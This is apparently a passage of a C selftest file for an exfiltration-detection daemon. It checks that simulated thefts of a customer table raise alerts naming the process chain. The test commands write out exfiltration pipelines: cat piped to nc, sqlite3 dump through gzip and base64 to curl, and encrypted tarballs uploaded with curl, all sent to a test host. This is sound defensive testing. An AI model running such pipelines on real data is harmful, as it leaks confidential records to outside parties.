// SPDX-License-Identifier: GPL-2.0-only
/*
 * Watched data followed across processes, end to end (docs/flow.md; the
 * scenarios of issue 4), on the sensor under test ($EXFILMON_SENSOR): a
 * real exfilmond watching a customer table, and the tools thieves use on
 * it -- sqlite3 | gzip | base64 | curl, copies staged and uploaded later
 * from another session, relays over Unix sockets, loopback TCP and shared
 * memory, io_uring, DNS-style datagrams, a slow drip -- sending to a test
 * host in a network namespace. Each theft must give exactly one alert,
 * naming the destination and the chain of processes and channels the data
 * took; each innocent activity none, although its traffic demonstrably
 * happened. A service that relays everything (syslog, dbus) must not become
 * a suspect, and the test shows that it would without the opaque list.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include "kselftest_harness.h"
#include "customers.h"
#include "daemon_run.h"
#include "testhost.h"

#define CSV_BYTES	(2 << 20)
#define READ_THRESHOLD	(256 << 10)
#define SEND_THRESHOLD	(128 << 10)

#define PORT_RAW	443	/* nc and friends */
#define PORT_HTTP	8080	/* curl */
#define PORT_DNS	53	/* datagrams */
#define PORT_SYSLOG	514	/* rsyslogd's forward */
#define PORT_BUS	9000	/* where the bus monitor's output goes */

#define ALERT_WAIT_S	30	/* a theft's alert comes within this */
#define SETTLE_S	2	/* ... and no second one in this much more */
#define QUIET_S		6	/* innocence: one settle period (5 s), a tick */
#define TIMEOUT_S	120	/* per test: generous, for qemu without KVM */

#define HOST_BASE	40	/* test hosts 198.18.41.0/24 and up */
#define PATH_LEN	256

/* curl as thieves call it: no proxy from the environment, fail on 4xx */
#define CURL	"curl -sS -f --noproxy '*' -o /dev/null "

struct world {
	char dir[64];
	char csv[PATH_LEN];	/* crm/customers.csv: watched */
	char db[PATH_LEN];	/* crm/customers.db, SQLite: watched, if made */
	char stage[PATH_LEN];	/* where the thief stages copies: not watched */
	char shm[PATH_LEN];	/* prefix of the files we put in /dev/shm */
	char conf[PATH_LEN];
	char sock[PATH_LEN];
	char log[PATH_LEN];
	long csv_size;
	struct testhost th;
	struct testhost th2;	/* a second host, for tests that need two */
	pid_t daemon;
	pid_t bg[8];		/* detached helpers, ours to end (subreaper) */
	int nr_bg;
	const char *mode;	/* [policy] mode; NULL: none (detect) */
	int64_t refused0;	/* the sensor's refusals when it came up */
};

struct world_opts {
	int host;		/* test host number; two hosts: also host + 1 */
	int two_hosts;
	const char *internal;	/* [network] internal; NULL: 10.0.0.0/8 */
	long read_threshold;	/* 0: READ_THRESHOLD */
	long send_threshold;	/* 0: SEND_THRESHOLD */
	int sqlite;		/* also a SQLite copy of the table, watched */
	const char *extra;	/* more config, e.g. a [flow] section */
};

/* One hop of an expected chain (docs/flow.md, "The chain"). */
struct step {
	const char *via;	/* read, fork, exec, pipe, file, unix, ... */
	const char *comm;	/* NULL: any */
	pid_t pid;		/* 0: any */
	const char *object;	/* NULL: any; "prefix*" matches a prefix */
	const char *object2;	/* another name it may go by (mv, ln) */
	long bytes;		/* 0: any amount above zero */
};

static void pathf(char *buf, const char *fmt, ...)
	__attribute__((format(printf, 2, 3)));

static void pathf(char *buf, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(buf, PATH_LEN, fmt, ap);
	va_end(ap);
}

/* The full path of tool in $PATH or the sbin folders, or NULL. */
static const char *which(const char *tool, char *buf)
{
	const char *path = getenv("PATH");
	char dirs[1024];
	char *dir, *save;

	/* root's PATH may lack sbin, where rsyslogd lives */
	snprintf(dirs, sizeof(dirs), "%s:/usr/sbin:/sbin",
		 path && *path ? path : "/usr/bin:/bin");
	for (dir = strtok_r(dirs, ":", &save); dir;
	     dir = strtok_r(NULL, ":", &save)) {
		pathf(buf, "%s/%s", dir, tool);
		if (!access(buf, X_OK))
			return buf;
	}
	return NULL;
}

/* The first tool of the space-separated list that is missing, or NULL. */
static const char *missing(const char *tools)
{
	static char name[64];
	char buf[PATH_LEN];
	const char *p = tools;

	while (*p) {
		size_t n = strcspn(p, " ");

		snprintf(name, sizeof(name), "%.*s", (int)n, p);
		if (n && !which(name, buf))
			return name;
		p += n + (p[n] == ' ');
	}
	return NULL;
}

#define NEED(tools) do { \
	const char *_m = missing(tools); \
	if (_m) \
		SKIP(return, "%s is not installed here (scripts/deps.sh " \
		     "installs it; the VM guest gets the host's)", _m); \
} while (0)

/* A test program of ours: BUILD/tests/helpers/name, absolute. */
static const char *helper(const char *name, char *buf)
{
	char rel[PATH_LEN];

	pathf(rel, "%s/tests/helpers/%s", build_dir(), name);
	if (!realpath(rel, buf))
		pathf(buf, "%s", rel);
	return buf;
}

/*
 * The sensor's refusals so far: exfilmon.ko counts them for as long as it
 * is loaded, across daemons (the eBPF sensor from its load), so a test
 * compares with what it found when its daemon came up.
 */
static int64_t refused_so_far(const struct world *e)
{
	const char *const status[] = { "status", NULL };
	struct json_object *st = ctl_json(e->sock, status), *p, *v;
	int64_t n = -1;

	if (st && json_object_object_get_ex(st, "prevent", &p) &&
	    json_object_object_get_ex(p, "refused", &v))
		n = json_object_get_int64(v);
	json_object_put(st);
	return n;
}

static int world_up(struct __test_metadata *_metadata, struct world *e,
		    const struct world_opts *o)
{
	char conf[4096], watch[2 * PATH_LEN + 32], crm[PATH_LEN];
	char tmp[sizeof(e->dir)], policy[64] = "";

	if (geteuid())
		SKIP(return 1, "exfilmond needs root");
	if (e->mode)
		snprintf(policy, sizeof(policy), "[policy]\nmode = %s\n\n",
			 e->mode);
	if (o->sqlite && missing("sqlite3"))
		SKIP(return 1, "sqlite3 is not installed here "
		     "(scripts/deps.sh)");
	/* detached helpers come back to us, to be ended and reaped */
	if (prctl(PR_SET_CHILD_SUBREAPER, 1))
		return -1;
	strcpy(tmp, "/tmp/exfilmon-flow-XXXXXX");
	if (!mkdtemp(tmp))
		return -1;
	strcpy(e->dir, tmp);
	if (chmod(e->dir, 0755))
		return -1;
	pathf(crm, "%s/crm", e->dir);
	pathf(e->csv, "%s/customers.csv", crm);
	pathf(e->stage, "%s/stage", e->dir);
	pathf(e->conf, "%s/exfilmon.conf", e->dir);
	pathf(e->sock, "%s/exfilmon.sock", e->dir);
	pathf(e->log, "%s/exfilmond.log", e->dir);
	pathf(e->shm, "/dev/shm/exfilmon-flow-%d", (int)getpid());
	if (mkdir(crm, 0755) || mkdir(e->stage, 0755))
		return -1;
	e->csv_size = customers_write(e->csv, CSV_BYTES);
	if (e->csv_size < 0)
		return -1;
	snprintf(watch, sizeof(watch), "path = %s\n", e->csv);
	if (o->sqlite) {
		pathf(e->db, "%s/customers.db", crm);
		/* before the daemon starts: making it is no theft */
		if (run("sqlite3 %s '.import --csv %s customers'", e->db,
			e->csv))
			return -1;
		snprintf(watch + strlen(watch), sizeof(watch) - strlen(watch),
			 "path = %s\n", e->db);
	}
	snprintf(conf, sizeof(conf),
		 "[watch]\n%s\n"
		 "[correlation]\nread_threshold = %ld\nsend_threshold = %ld\n"
		 "window = 10min\n\n"
		 "[network]\ninternal = %s\n\n"
		 "[daemon]\nstate_dir = %s/state\nsocket = %s\n"
		 "group = exfilmon-test-nonexistent\n\n%s%s",
		 watch, o->read_threshold ?: READ_THRESHOLD,
		 o->send_threshold ?: SEND_THRESHOLD,
		 o->internal ?: "10.0.0.0/8", e->dir, e->sock, policy,
		 o->extra ?: "");
	if (write_file(e->conf, conf) || testhost_create(&e->th, o->host))
		return -1;
	if (o->two_hosts && testhost_create(&e->th2, o->host + 1))
		return -1;
	e->daemon = daemon_start(e->conf, e->sock, e->log);
	if (e->daemon > 0)
		e->refused0 = refused_so_far(e);
	if (e->daemon < 0) {
		run("cat %s >&2", e->log);
		/* a test host left behind would take the next one's route */
		testhost_destroy(&e->th2);
		testhost_destroy(&e->th);
		return -1;
	}
	return 0;
}

#define WORLD_UP(...) do { \
	const struct world_opts _o = { __VA_ARGS__ }; \
	int _r = world_up(_metadata, &self->e, &_o); \
	if (_r > 0) \
		return; \
	ASSERT_EQ(0, _r); \
} while (0)

/*
 * End a detached helper we started, if it still runs. It is our child
 * since its parent exited (we are the subreaper), so its pid cannot have
 * been reused before we reap it here.
 */
static int bg_stop(struct world *e, pid_t pid)
{
	int status = -1, i;
	pid_t r;

	for (i = 0; i < e->nr_bg; i++)
		if (e->bg[i] == pid)
			e->bg[i] = 0;
	if (pid <= 0)
		return -1;
	r = waitpid(pid, &status, WNOHANG);
	if (r == pid || r < 0)
		return r == pid ? status : -1;
	kill(pid, SIGTERM);
	for (i = 0; i < 100; i++) {
		if (waitpid(pid, &status, WNOHANG) == pid)
			return status;
		usleep(50000);
	}
	kill(pid, SIGKILL);
	waitpid(pid, &status, 0);
	return status;
}

static void world_down(struct world *e)
{
	int i;

	for (i = 0; i < e->nr_bg; i++)
		if (e->bg[i])
			bg_stop(e, e->bg[i]);
	daemon_stop(e->daemon);
	testhost_destroy(&e->th2);
	testhost_destroy(&e->th);
	if (e->shm[0])
		run("rm -f %s-*", e->shm);
	if (e->dir[0])
		run("rm -rf %s", e->dir);
	/* orphans we adopted that have exited (setsid -f) */
	while (waitpid(-1, NULL, WNOHANG) > 0)
		;
}

/*
 * Start a shell command in a new session, detached: a service or relay
 * running before the theft, no descendant of the thief. Its output goes
 * to log. Returns its pid, or -1.
 */
static pid_t bg_start(struct world *e, const char *log, const char *fmt, ...)
	__attribute__((format(printf, 3, 4)));

static pid_t bg_start(struct world *e, const char *log, const char *fmt, ...)
{
	pid_t mid, pid = -1;
	char cmd[2048];
	va_list ap;
	int p[2];

	va_start(ap, fmt);
	vsnprintf(cmd, sizeof(cmd), fmt, ap);
	va_end(ap);
	if (e->nr_bg == ARRAY_SIZE(e->bg) || pipe2(p, O_CLOEXEC))
		return -1;
	mid = fork();
	if (!mid) {
		pid_t child;

		setsid();
		child = fork();
		if (!child) {
			int out = open(log, O_WRONLY | O_CREAT | O_APPEND |
				       O_CLOEXEC, 0644);
			int in = open("/dev/null", O_RDONLY | O_CLOEXEC);

			if (out < 0 || in < 0 || dup2(in, 0) < 0 ||
			    dup2(out, 1) < 0 || dup2(out, 2) < 0)
				_exit(126);
			execl("/bin/sh", "sh", "-c", cmd, (char *)NULL);
			_exit(127);
		}
		_exit(write(p[1], &child, sizeof(child)) != sizeof(child));
	}
	close(p[1]);
	if (mid < 0 || read(p[0], &pid, sizeof(pid)) != sizeof(pid))
		pid = -1;
	close(p[0]);
	if (mid > 0)
		waitpid(mid, NULL, 0);
	if (pid > 0)
		e->bg[e->nr_bg++] = pid;
	return pid;
}

/* Wait up to secs for path to exist; 0 or -1. */
static int wait_path(const char *path, int secs)
{
	int i;

	for (i = 0; i < secs * 20; i++) {
		if (!access(path, F_OK))
			return 0;
		usleep(50000);
	}
	return -1;
}

/* Wait up to secs for file to contain text; 0 or -1. */
static int wait_text(const char *file, const char *text, int secs)
{
	char buf[16384];
	int i;

	for (i = 0; i < secs * 20; i++) {
		FILE *f = fopen(file, "r");
		size_t n = 0;

		if (f) {
			n = fread(buf, 1, sizeof(buf) - 1, f);
			fclose(f);
		}
		buf[n] = '\0';
		if (strstr(buf, text))
			return 0;
		usleep(50000);
	}
	return -1;
}

/* Wait up to secs for a TCP listener on 127.0.0.1:port; 0 or -1. */
static int wait_listen(uint16_t port, int secs)
{
	unsigned int addr, lport, state;
	char line[512];
	int i;

	for (i = 0; i < secs * 20; i++) {
		FILE *f = fopen("/proc/net/tcp", "r");

		while (f && fgets(line, sizeof(line), f)) {
			/* "sl: local rem st": 0100007F:1F90 ... 0A is LISTEN */
			if (sscanf(line, " %*d: %x:%x %*x:%*x %x", &addr,
				   &lport, &state) == 3 &&
			    addr == htonl(INADDR_LOOPBACK) && lport == port &&
			    state == 0x0a) {
				fclose(f);
				return 0;
			}
		}
		if (f)
			fclose(f);
		usleep(50000);
	}
	return -1;
}

/* Fork and exec argv; its exit status (or 128 + signal), *pid its pid. */
static int spawn_wait(const char *const argv[], pid_t *pid)
{
	int status;

	*pid = fork();
	if (*pid < 0)
		return -1;
	if (!*pid) {
		execv(argv[0], (char *const *)argv);
		_exit(127);
	}
	if (waitpid(*pid, &status, 0) != *pid)
		return -1;
	return WIFEXITED(status) ? WEXITSTATUS(status) :
		128 + WTERMSIG(status);
}

/* All of path, read with read(2); NULL on failure. */
static char *read_all(const char *path, long *len)
{
	struct stat st;
	char *buf = NULL;
	long got = 0;
	int fd;

	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st))
		goto fail;
	buf = malloc(st.st_size + 1);
	if (!buf)
		goto fail;
	while (got < st.st_size) {
		ssize_t n = read(fd, buf + got, st.st_size - got);

		if (n <= 0)
			goto fail;
		got += n;
	}
	close(fd);
	*len = got;
	return buf;
fail:
	free(buf);
	if (fd >= 0)
		close(fd);
	return NULL;
}

/* Connect to addr:port over TCP and send len bytes of buf; 0 or -1. */
static int send_all(const char *addr, uint16_t port, const char *buf,
		    long len)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
				   .sin_port = htons(port) };
	int fd, ret = -1;

	if (inet_pton(AF_INET, addr, &sin.sin_addr) != 1)
		return -1;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	if (connect(fd, (void *)&sin, sizeof(sin)))
		goto out;
	while (len > 0) {
		ssize_t n = send(fd, buf, len, MSG_NOSIGNAL);

		if (n <= 0)
			goto out;
		buf += n;
		len -= n;
	}
	ret = 0;
out:
	close(fd);
	return ret;
}

static int tcp_sink(struct testhost *th, uint16_t port, int n,
		    unsigned int flags, struct sink *sk)
{
	return sink_start_many(th, AF_INET, SOCK_STREAM, port, n, flags, sk);
}

static const char *str(struct json_object *o, const char *key)
{
	struct json_object *v;

	return o && json_object_object_get_ex(o, key, &v) ?
		json_object_get_string(v) : "";
}

static int64_t num(struct json_object *o, const char *key)
{
	struct json_object *v;

	return o && json_object_object_get_ex(o, key, &v) ?
		json_object_get_int64(v) : -1;
}

static struct json_object *idx(struct json_object *o, const char *key,
			       size_t i)
{
	struct json_object *v;

	if (!o || !json_object_object_get_ex(o, key, &v) ||
	    !json_object_is_type(v, json_type_array) ||
	    i >= json_object_array_length(v))
		return NULL;
	return json_object_array_get_idx(v, i);
}

static struct json_object *chain_of(struct json_object *a)
{
	struct json_object *c;

	if (!json_object_object_get_ex(a, "chain", &c) ||
	    !json_object_is_type(c, json_type_array))
		return NULL;
	return c;
}

/* The chain as one line: "read cat[12] 2097183 /x -> pipe nc[13] ..." */
static const char *chain_text(struct json_object *a, char *buf, size_t size)
{
	struct json_object *c = chain_of(a);
	size_t i, off = 0;

	if (!c) {
		snprintf(buf, size, "(no chain)");
		return buf;
	}
	buf[0] = '\0';
	for (i = 0; i < json_object_array_length(c) && off < size; i++) {
		struct json_object *s = json_object_array_get_idx(c, i);
		const char *obj = str(s, "object");

		off += snprintf(buf + off, size - off, "%s%s %s[%lld] %lld%s%s",
				i ? " -> " : "", str(s, "via"), str(s, "comm"),
				(long long)num(s, "pid"),
				(long long)num(s, "bytes"), *obj ? " " : "",
				obj);
	}
	if (off < size)
		snprintf(buf + off, size - off, " -> %s", str(a, "host"));
	return buf;
}

static const char *want_text(const struct step *w, size_t n, char *buf,
			     size_t size)
{
	size_t i, off = 0;

	buf[0] = '\0';
	for (i = 0; i < n && off < size; i++)
		off += snprintf(buf + off, size - off,
				"%s%s %s[%d] %ld%s%s%s%s", i ? " -> " : "",
				w[i].via, w[i].comm ?: "*", (int)w[i].pid,
				w[i].bytes, w[i].object ? " " : "",
				w[i].object ?: "", w[i].object2 ? " | " : "",
				w[i].object2 ?: "");
	return buf;
}

static int object_is(const char *obj, const char *want)
{
	size_t n = strlen(want);

	if (n && want[n - 1] == '*')
		return !strncmp(obj, want, n - 1);
	return !strcmp(obj, want);
}

static int step_is(struct json_object *s, const struct step *w)
{
	const char *obj = str(s, "object");

	/* every step names a process the daemon knew, even if it exited */
	if (num(s, "pid") <= 0 || !*str(s, "comm"))
		return 0;
	if (strcmp(str(s, "via"), w->via) ||
	    (w->comm && strcmp(str(s, "comm"), w->comm)) ||
	    (w->pid && num(s, "pid") != w->pid))
		return 0;
	if (w->object && !object_is(obj, w->object) &&
	    !(w->object2 && object_is(obj, w->object2)))
		return 0;
	return w->bytes ? num(s, "bytes") == w->bytes : num(s, "bytes") > 0;
}

/*
 * The chain is want, in order, from the reader (first) to the sender
 * (last). Between two hops the shell may add fork and exec steps of its
 * own (a subshell, a program exec'd after it was tainted): those are
 * allowed, and only there.
 */
static int chain_is(struct json_object *c, const struct step *want, size_t n)
{
	size_t len, i, j = 0;

	if (!c)
		return 0;
	len = json_object_array_length(c);
	for (i = 0; i < len; i++) {
		struct json_object *s = json_object_array_get_idx(c, i);
		const char *via = str(s, "via");

		if (j < n && step_is(s, &want[j])) {
			j++;
			continue;
		}
		if (!i || i == len - 1 ||
		    (strcmp(via, "fork") && strcmp(via, "exec")))
			return 0;
	}
	return j == n;
}

static void expect_chain(struct __test_metadata *_metadata,
			 struct json_object *a, const struct step *want,
			 size_t n)
{
	struct json_object *c = chain_of(a), *last = NULL;
	char got[4096], exp[2048];

	EXPECT_TRUE(chain_is(c, want, n)) {
		TH_LOG("chain:    %s", chain_text(a, got, sizeof(got)));
		TH_LOG("expected: %s", want_text(want, n, exp, sizeof(exp)));
	}
	/* the sender, last in the chain, is the alert's process */
	if (c && json_object_array_length(c))
		last = json_object_array_get_idx(c,
				json_object_array_length(c) - 1);
	EXPECT_EQ(num(a, "pid"), num(last, "pid"));
}

/* exfilctl alerts --json, as an array (NULL on failure). */
static struct json_object *alerts(const struct world *e)
{
	static const char *const args[] = { "alerts", NULL };

	return ctl_json(e->sock, args);
}

static struct json_object *alert_for(struct json_object *arr,
				     const char *host)
{
	size_t i;

	for (i = 0; arr && i < json_object_array_length(arr); i++) {
		struct json_object *a = json_object_array_get_idx(arr, i);

		if (!strcmp(str(a, "host"), host))
			return a;
	}
	return NULL;
}

/* Poll for an alert naming host, for up to ALERT_WAIT_S; 0 or -1. */
static int wait_alert(const struct world *e, const char *host)
{
	int i;

	for (i = 0; i < ALERT_WAIT_S * 5; i++) {
		struct json_object *arr = alerts(e);
		int found = alert_for(arr, host) != NULL;

		json_object_put(arr);
		if (found)
			return 0;
		usleep(200000);
	}
	return -1;
}

/* What went wrong: the alerts and the end of the daemon's log. */
static void dump(const struct world *e)
{
	struct json_object *arr = alerts(e);

	fprintf(stderr, "# alerts: %s\n", arr ?
		json_object_to_json_string_ext(arr,
			JSON_C_TO_STRING_NOSLASHESCAPE) : "(exfilctl failed)");
	json_object_put(arr);
	fprintf(stderr, "# exfilmond's log, last lines:\n");
	run("tail -n 30 %s | sed 's/^/#   /' >&2", e->log);
}

/*
 * A theft was committed towards th, port, proto: exactly one alert comes,
 * naming it, and no second one within SETTLE_S. Returns the alert list
 * (put it when done) and the alert in *a.
 */
static struct json_object *caught(struct __test_metadata *_metadata,
				  const struct world *e,
				  const struct testhost *th, uint16_t port,
				  const char *proto, struct json_object **a)
{
	struct json_object *arr;
	char buf[4096];

	ASSERT_EQ(0, wait_alert(e, th->remote4)) {
		TH_LOG("no alert naming %s within %d s", th->remote4,
		       ALERT_WAIT_S);
		dump(e);
	}
	sleep(SETTLE_S);
	arr = alerts(e);
	ASSERT_NE(NULL, arr);
	ASSERT_EQ(1, json_object_array_length(arr)) {
		dump(e);
	}
	*a = json_object_array_get_idx(arr, 0);
	TH_LOG("alert: %s", chain_text(*a, buf, sizeof(buf)));
	EXPECT_STREQ(th->remote4, str(*a, "host"));
	EXPECT_STREQ(sensor_under_test(), str(*a, "sensor"));
	EXPECT_EQ(port, num(idx(*a, "destinations", 0), "port"));
	EXPECT_STREQ(proto, str(idx(*a, "destinations", 0), "proto"));
	return arr;
}

/*
 * The taint of the derived mark the store keeps for path (docs/store.md,
 * "derived"), or -1 when the file is not marked. The daemon stores a mark
 * at once, and its growth at most once a second.
 */
static int64_t derived_taint(const struct world *e, const char *path)
{
	char sql[PATH_LEN + 64];
	const char *const args[] = { "query", sql, NULL };
	struct json_object *res, *rows, *row;
	int64_t taint = -1;

	snprintf(sql, sizeof(sql),
		 "SELECT taint FROM derived WHERE path = '%s'", path);
	res = ctl_json(e->sock, args);
	if (res && json_object_object_get_ex(res, "rows", &rows) &&
	    json_object_is_type(rows, json_type_array) &&
	    json_object_array_length(rows) == 1) {
		row = json_object_array_get_idx(rows, 0);
		if (json_object_is_type(row, json_type_array) &&
		    json_object_array_length(row) == 1)
			taint = json_object_get_int64(
					json_object_array_get_idx(row, 0));
	}
	json_object_put(res);
	return taint;
}

/*
 * Innocent traffic has happened: after QUIET_S there is still no alert,
 * and in prevent mode nothing was refused.
 */
static void quiet(struct __test_metadata *_metadata, const struct world *e)
{
	const char *const status[] = { "status", NULL };
	struct json_object *arr, *st, *p;

	sleep(QUIET_S);
	arr = alerts(e);
	ASSERT_NE(NULL, arr);
	EXPECT_EQ(0, json_object_array_length(arr)) {
		dump(e);
	}
	json_object_put(arr);
	if (!e->mode)
		return;
	st = ctl_json(e->sock, status);
	ASSERT_NE(NULL, st);
	ASSERT_TRUE(json_object_object_get_ex(st, "prevent", &p));
	EXPECT_STREQ(e->mode, str(p, "mode"));
	EXPECT_EQ(e->refused0, num(p, "refused"));
	json_object_put(st);
}

FIXTURE(flow) {
	struct world e;
};

FIXTURE_SETUP(flow)
{
	/* each test brings up its own world, as its scenario needs */
}

FIXTURE_TEARDOWN(flow)
{
	world_down(&self->e);
}

/*
 * The quiet scenarios, in detect mode and again in prevent mode (issue 8):
 * innocent work runs unaffected by either, with one exception the rule
 * makes (17, docs/prevent.md).
 */
FIXTURE(quiet) {
	struct world e;
};

FIXTURE_VARIANT(quiet) {
	const char *mode;	/* NULL: no [policy] section */
};

FIXTURE_VARIANT_ADD(quiet, detect) {
	.mode = NULL,
};

FIXTURE_VARIANT_ADD(quiet, prevent) {
	.mode = "prevent",
};

FIXTURE_SETUP(quiet)
{
	self->e.mode = variant->mode;
}

FIXTURE_TEARDOWN(quiet)
{
	world_down(&self->e);
}

/* 1. The simplest relay: a pipe. */
TEST_F_TIMEOUT(flow, cat_piped_into_nc_is_caught, TIMEOUT_S)
{
	struct world *e = &self->e;
	struct json_object *arr, *a;
	struct sink sk;

	NEED("nc");
	WORLD_UP(.host = HOST_BASE + 1);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	ASSERT_EQ(0, run("cat %s | nc -N %s %d", e->csv, e->th.remote4,
			 PORT_RAW));
	ASSERT_EQ(e->csv_size, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_RAW, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "cat", .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "pipe", .comm = "nc", .bytes = e->csv_size },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	json_object_put(arr);
}

/* 2. A dump, compressed and encoded on the way: three pipes. */
TEST_F_TIMEOUT(flow, sqlite3_dump_gzip_base64_curl_is_caught, TIMEOUT_S)
{
	struct world *e = &self->e;
	struct json_object *arr, *a;
	struct cmd_result *r;
	char id[32];
	const char *show[] = { "exfilctl", "--socket", e->sock, "show", id,
			       NULL };
	const char *p;
	struct sink sk;

	NEED("sqlite3 gzip base64 curl");
	WORLD_UP(.host = HOST_BASE + 2, .sqlite = 1);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_HTTP, 1, SINK_HTTP, &sk));
	ASSERT_EQ(0, run("sqlite3 %s .dump | gzip | base64 | "
			 CURL "--data-binary @- http://%s:%d/upload",
			 e->db, e->th.remote4, PORT_HTTP));
	/* compressed, the dump is still more than the threshold */
	ASSERT_LE(SEND_THRESHOLD, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_HTTP, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "sqlite3", .object = e->db },
			{ .via = "pipe", .comm = "gzip" },
			{ .via = "pipe", .comm = "base64" },
			{ .via = "pipe", .comm = "curl" },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}

	/* exfilctl show tells the same story, in the same order */
	snprintf(id, sizeof(id), "%lld", (long long)num(a, "id"));
	r = malloc(sizeof(*r));
	ASSERT_NE(NULL, r);
	ASSERT_EQ(0, run_prog(r, (uid_t)-1, show));
	EXPECT_EQ(0, r->status);
	p = strstr(r->out, "sqlite3");
	p = p ? strstr(p, "gzip") : NULL;
	p = p ? strstr(p, "base64") : NULL;
	p = p ? strstr(p, "curl") : NULL;
	EXPECT_NE(NULL, p) {
		TH_LOG("exfilctl show %s:\n%s", id, r->out);
	}
	free(r);
	json_object_put(arr);
}

/*
 * 3. An archive of the folder, encrypted, uploaded from the same shell:
 * a pipe into tar's gzip, then two derived files.
 */
static void tar_encrypt_upload(struct __test_metadata *_metadata,
			       struct world *e, const char *tool,
			       const char *encrypt, const char *tgz,
			       const char *enc)
{
	struct json_object *arr, *a;
	struct sink sk;

	ASSERT_EQ(0, tcp_sink(&e->th, PORT_HTTP, 1, SINK_HTTP, &sk));
	ASSERT_EQ(0, run("cd %s && tar czf %s crm && %s && "
			 CURL "--data-binary @%s http://%s:%d/",
			 e->dir, tgz, encrypt, enc, e->th.remote4,
			 PORT_HTTP));
	ASSERT_LE(SEND_THRESHOLD, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_HTTP, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "tar", .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "pipe", .comm = "gzip" },
			{ .via = "file", .comm = tool, .object = tgz },
			{ .via = "file", .comm = "curl", .object = enc },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	json_object_put(arr);
}

TEST_F_TIMEOUT(flow, tarball_encrypted_with_openssl_and_uploaded_is_caught,
	       TIMEOUT_S)
{
	struct world *e = &self->e;
	char tgz[PATH_LEN], enc[PATH_LEN], encrypt[3 * PATH_LEN];

	NEED("tar gzip openssl curl");
	WORLD_UP(.host = HOST_BASE + 3);
	pathf(tgz, "%s/x.tgz", e->stage);
	pathf(enc, "%s/x.tgz.enc", e->stage);
	snprintf(encrypt, sizeof(encrypt), "openssl enc -aes-256-cbc -pbkdf2 "
		 "-pass pass:hunter2 -in %s -out %s", tgz, enc);
	tar_encrypt_upload(_metadata, e, "openssl", encrypt, tgz, enc);
}

TEST_F_TIMEOUT(flow, tarball_encrypted_with_gpg_and_uploaded_is_caught,
	       TIMEOUT_S)
{
	struct world *e = &self->e;
	char tgz[PATH_LEN], enc[PATH_LEN], gpg[2 * PATH_LEN];
	char gnupg[PATH_LEN], log[PATH_LEN], agent[PATH_LEN];
	char encrypt[4 * PATH_LEN];

	NEED("tar gzip gpg gpg-agent curl");
	WORLD_UP(.host = HOST_BASE + 4);
	pathf(gnupg, "%s/gnupg", e->dir);
	pathf(log, "%s/gpg-agent.log", e->dir);
	pathf(agent, "%s/S.gpg-agent", gnupg);
	ASSERT_EQ(0, mkdir(gnupg, 0700));
	/*
	 * gpg needs an agent even for --symmetric: ours, so that it ends
	 * with the test, started before the theft like a desktop's
	 */
	ASSERT_LT(0, bg_start(e, log, "exec gpg-agent --homedir %s --daemon "
			      "--no-detach", gnupg));
	ASSERT_EQ(0, wait_path(agent, 10)) {
		run("cat %s >&2", log);
	}
	snprintf(gpg, sizeof(gpg), "gpg --homedir %s --batch --yes --quiet "
		 "--no-autostart --pinentry-mode loopback --passphrase hunter2 "
		 "--symmetric", gnupg);
	pathf(tgz, "%s/x.tgz", e->stage);
	pathf(enc, "%s/x.tgz.gpg", e->stage);
	snprintf(encrypt, sizeof(encrypt), "%s -o %s %s", gpg, enc, tgz);
	tar_encrypt_upload(_metadata, e, "gpg", encrypt, tgz, enc);
}

/*
 * 4. A copy staged under an innocent name; half a minute later, from
 * another session that descends from nothing involved, uploaded.
 */
TEST_F_TIMEOUT(flow, copy_uploaded_30s_later_from_another_session_is_caught,
	       TIMEOUT_S + 30)
{
	struct world *e = &self->e;
	struct json_object *arr, *a;
	char notes[PATH_LEN];
	struct sink sk;

	NEED("curl setsid");
	WORLD_UP(.host = HOST_BASE + 5);
	pathf(notes, "%s/notes.txt", e->stage);
	ASSERT_EQ(0, run("cp %s %s", e->csv, notes));
	sleep(30);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_HTTP, 1, SINK_HTTP, &sk));
	ASSERT_EQ(0, run("setsid -f " CURL "--data-binary @%s http://%s:%d/",
			 notes, e->th.remote4, PORT_HTTP));
	ASSERT_EQ(e->csv_size, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_HTTP, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "cp", .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "file", .comm = "curl", .object = notes,
			  .bytes = e->csv_size },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	json_object_put(arr);
}

/*
 * Taint on a file outlives the daemon too: a copy staged while one daemon
 * ran, uploaded after it was restarted (as systemd would), is still caught
 * with its whole chain, which the new daemon only has from the store.
 */
TEST_F_TIMEOUT(flow, copy_staged_before_a_daemon_restart_is_caught,
	       TIMEOUT_S + 20)
{
	struct world *e = &self->e;
	struct json_object *arr, *a;
	char notes[PATH_LEN];
	struct sink sk;
	int i;

	NEED("curl");
	WORLD_UP(.host = HOST_BASE + 26);
	pathf(notes, "%s/notes.txt", e->stage);
